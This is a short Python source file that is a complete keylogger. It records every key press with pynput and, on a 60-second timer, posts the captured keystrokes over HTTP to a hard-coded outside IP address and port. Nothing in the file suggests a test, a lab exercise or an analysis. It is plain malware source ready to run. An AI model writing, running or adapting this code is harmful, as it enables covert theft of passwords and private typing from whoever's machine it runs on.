import threading
import requests
from pynput import keyboard

buf = []


def on_press(key):
    buf.append(str(key))


def flush():
    if buf:
        requests.post('http://203.0.113.71:1245/keys', data={'k': ''.join(buf)}, timeout=5)
        buf.clear()
    threading.Timer(60, flush).start()


flush()
with keyboard.Listener(on_press=on_press) as l:
    l.join()
